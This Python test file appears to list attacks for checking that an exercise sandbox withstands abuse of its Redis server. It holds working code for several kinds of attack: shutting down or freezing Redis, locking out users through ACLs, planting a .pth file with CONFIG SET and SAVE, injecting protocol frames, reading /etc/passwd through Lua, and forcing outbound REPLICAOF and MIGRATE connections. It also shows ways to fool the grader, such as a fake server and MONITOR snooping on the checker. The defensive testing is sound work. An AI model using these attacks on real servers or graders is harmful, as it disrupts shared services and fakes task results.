"""Attacks on the Redis of the check: ending it, blocking it, reconfiguring it, standing in for it."""

from __future__ import annotations

from tests.attacks.attack import BESIDE, TOKEN, attack

_GONE = "a Redis that is gone for the other exercises and learners, or points"
_STOPS = "a Redis that answers nobody any more, or points"


def _redis(name: str, tries: str, success: str, code: str, **more: object) -> None:
    attack(name, "attacking_redis", tries, success, code=code, alone=True, hangs=True, **more)


_redis("shutdown", "Shuts the server down.", _GONE, """
def page_view(r, page):
    try:
        r.shutdown(nosave=True)
    except Exception:
        pass
    return 1
""")  # fmt: skip

_redis("reconfigured", "Sets a password, one byte of memory, one client, and a folder for its files.", _STOPS, f"""
def page_view(r, page):
    for name, setting in (("dir", "/tmp"), ("dbfilename", "{TOKEN}.rdb"), ("maxmemory", "1"),
                          ("maxmemory-policy", "noeviction"), ("maxclients", "1"), ("requirepass", "mine"),
                          ("save", "1 1"), ("appendonly", "yes")):
        try:
            r.config_set(name, setting)
        except Exception:
            pass
    return 1
""")  # fmt: skip

_redis("file-written-by-redis", "Makes Redis write a file of its choice (CONFIG SET dir, SAVE), where Python picks it "
       "up.", "a file that was planted", f"""
import glob
def page_view(r, page):
    for place in ("/tmp", "/dev/shm", "/var/tmp"):
        try:
            r.config_set("dir", place)
            r.config_set("dbfilename", "{TOKEN}.pth")
            r.set("x", "\\n\\nimport os\\n\\n")
            r.save()
        except Exception:
            pass
    return 1
""")  # fmt: skip

_redis("unkillable-script", "Runs a Lua script that writes and then never ends: SCRIPT KILL cannot end it.", _STOPS, """
def page_view(r, page):
    return r.eval("redis.call('INCR', KEYS[1]) while true do end", 1, f"page:{page}:views")
""")  # fmt: skip

_redis("module-loaded", "Loads a module, registers functions, and asks DEBUG to crash the server.", _GONE, """
def page_view(r, page):
    for words in (("MODULE", "LOAD", "/tmp/evil.so"), ("MODULE", "LOADEX", "/tmp/evil.so"),
                  ("DEBUG", "SEGFAULT"), ("DEBUG", "PANIC"), ("DEBUG", "RESTART"), ("FAILOVER",)):
        try:
            r.execute_command(*words)
        except Exception:
            pass
    return 1
""")  # fmt: skip

_redis("debug-sleep", "Puts the server to sleep for an hour (DEBUG SLEEP), or blocks it by huge commands.", _STOPS, """
def page_view(r, page):
    try:
        r.execute_command("DEBUG", "SLEEP", "3600")
    except Exception:
        pass
    r.eval("for i = 1, 1e12 do redis.call('TIME') end return 1", 0)
    return 1
""")  # fmt: skip

_redis("others-paused", "Pauses all clients for an hour and kills the connections of the others.", _STOPS, """
def page_view(r, page):
    for words in (("CLIENT", "KILL", "TYPE", "normal", "SKIPME", "yes"), ("CLIENT", "KILL", "SKIPME", "yes", "ID", "1"),
                  ("CLIENT", "PAUSE", "3600000", "ALL"), ("CLIENT", "NO-EVICT", "on")):
        try:
            r.execute_command(*words)
        except Exception:
            pass
    return 1
""")  # fmt: skip

_redis("others-locked-out", "Takes all rights from the default user by ACL, and adds one of its own.", _STOPS, """
def page_view(r, page):
    for words in (("ACL", "SETUSER", "mallory", "on", "nopass", "~*", "+@all"),
                  ("ACL", "SETUSER", "default", "off", "nopass", "-@all", "resetkeys")):
        try:
            r.execute_command(*words)
        except Exception:
            pass
    return 1
""")  # fmt: skip

_redis("redis-full", "Fills the server's memory: one value of half a gigabyte, and millions of keys by a script.",
       _STOPS, """
def page_view(r, page):
    for number in range(20):
        try:
            r.execute_command("SETRANGE", f"big:{number}", 536_870_000, "x")
        except Exception:
            pass
    try:
        r.eval("for i = 1, 1e8 do redis.call('SET', i, string.rep('x', 1000)) end", 0)
    except Exception:
        pass
    return 1
""")  # fmt: skip

_redis("everything-flushed", "Flushes all databases, scripts and functions, swaps databases and resets statistics.",
       "other exercises that lose their keys, or points", """
def page_view(r, page):
    for words in (("FLUSHALL",), ("SWAPDB", "0", "1"), ("SCRIPT", "FLUSH"), ("CONFIG", "RESETSTAT"), ("RESET",)):
        r.execute_command(*words)
    return 1
""")  # fmt: skip

_redis("conversation-broken", "Leaves its connection silent (CLIENT REPLY OFF), in MULTI, subscribed or in RESP3.",
       _STOPS, """
calls = 0
def page_view(r, page):
    global calls
    calls += 1
    words = [("CLIENT", "REPLY", "SKIP"), ("MULTI",), ("SUBSCRIBE", "a"), ("HELLO", "3"), ("CLIENT", "REPLY", "OFF")]
    connection = r.connection_pool.get_connection()
    connection.send_command(*words[calls % len(words)])
    r.connection_pool.release(connection)
    return 1
""")  # fmt: skip

_redis("frames-injected", "Writes bytes of its own to the socket: two commands in one, half a command, no command.",
       "a command that the meter does not see", """
def page_view(r, page):
    key = f"page:{page}:views".encode()
    connection = r.connection_pool.get_connection()
    try:
        one = b"*2\\r\\n$3\\r\\nGET\\r\\n$%d\\r\\n%b\\r\\n" % (len(key), key)
        # What looks like one long argument of an inline PING is two commands to the server.
        two = b"*3\\r\\n$3\\r\\nSET\\r\\n$%d\\r\\n%b\\r\\n$1\\r\\n1\\r\\n" % (len(key), key)
        connection._sock.sendall(b"PING\\r\\n" + one + two)
        connection._sock.settimeout(0.2)
        try:
            while connection._sock.recv(4096):
                pass
        except OSError:
            pass
        connection._sock.sendall(b"*1000000000\\r\\n$-5\\r\\n*-7\\r\\n")
    finally:
        connection.disconnect()
        r.connection_pool.release(connection)
    return 1
""")  # fmt: skip

_redis("socket-replaced", "Finds the server's socket, removes it and puts a server of its own there.",
       "points, or a Redis that nobody finds any more", """
import os, socket, threading
def page_view(r, page):
    path = r.connection_pool.connection_kwargs.get("path")
    if path:
        try:
            os.unlink(path)
            mine = socket.socket(socket.AF_UNIX)
            mine.bind(path)
            mine.listen(50)
            def serve():
                while True:
                    peer, _ = mine.accept()
                    def talk(peer=peer):
                        while peer.recv(65536):
                            peer.sendall(b":1\\r\\n")
                    threading.Thread(target=talk, daemon=True).start()
            threading.Thread(target=serve, daemon=True).start()
        except OSError:
            pass
    return 1
""")  # fmt: skip

_redis("fake-server", "Turns its client to a server of its own that answers what the check wants to hear.",
       "points for a wrong answer", """
import socket, threading
total = 0
def talk(peer):
    global total
    while data := peer.recv(65536):
        if b"INCR" in data.upper():
            total += 1
            peer.sendall(b":%d\\r\\n" % total)
        elif b"GET" in data.upper():
            text = b"%d" % total
            peer.sendall(b"$%d\\r\\n%b\\r\\n" % (len(text), text))
        else:
            peer.sendall(b"+OK\\r\\n")
def page_view(r, page):
    import redis
    class Mine(redis.connection.UnixDomainSocketConnection):
        def _connect(self):
            ours, theirs = socket.socketpair()
            threading.Thread(target=talk, args=(theirs,), daemon=True).start()
            return ours
    r.connection_pool = redis.ConnectionPool(connection_class=Mine, path="", protocol=2, decode_responses=True)
    try:
        return r.incr(f"page:{page}:views")
    except Exception:
        return 1
""", expect={BESIDE: "any"})  # fmt: skip

_redis("checker-watched", "Watches with MONITOR what the check itself sends, and answers accordingly.",
       "points for a wrong answer", """
import threading
seen = []
started = False
def watch(r):
    connection = r.connection_pool.make_connection()
    connection.connect()
    connection.send_command("MONITOR")
    while True:
        seen.append(str(connection.read_response(disable_decoding=True)))
def page_view(r, page):
    global started
    if not started:
        started = True
        threading.Thread(target=watch, args=(r,), daemon=True).start()
    for line in reversed(seen):
        if "41" in line:
            return 42
    return 1
""")  # fmt: skip

_redis("redis-reaches-out", "Makes Redis itself connect elsewhere: REPLICAOF, MIGRATE, CLUSTER MEET, and read files "
       "through Lua.", "a connection out of the sandbox", """
def page_view(r, page):
    for words in (("SET", "x", "1"), ("MIGRATE", "127.0.0.1", "47123", "x", "0", "300"), ("CLUSTER", "MEET",
                  "127.0.0.1", "47123"), ("REPLICAOF", "127.0.0.1", "47123")):
        try:
            r.execute_command(*words)
        except Exception:
            pass
    try:
        r.eval("return dofile('/etc/passwd') or io.open('/etc/passwd')", 0)
    except Exception:
        pass
    return 1
""")  # fmt: skip
